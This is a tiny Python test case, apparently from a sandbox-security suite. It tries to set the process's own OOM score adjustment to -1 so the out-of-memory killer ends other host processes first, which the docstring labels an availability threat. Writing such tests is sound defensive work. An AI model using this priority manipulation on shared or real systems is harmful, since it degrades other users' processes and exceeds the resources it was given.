"""Asks the OOM killer to end every ordinary process of the host before it.

Threats: E20
Contract: availability
Unproven: needs CAP_SYS_RESOURCE, which a host that is itself a container may lack
"""


def attack():
    with open("/proc/self/oom_score_adj", "w", encoding="ascii") as file:
        file.write("-1")
    return -1


run(attack)
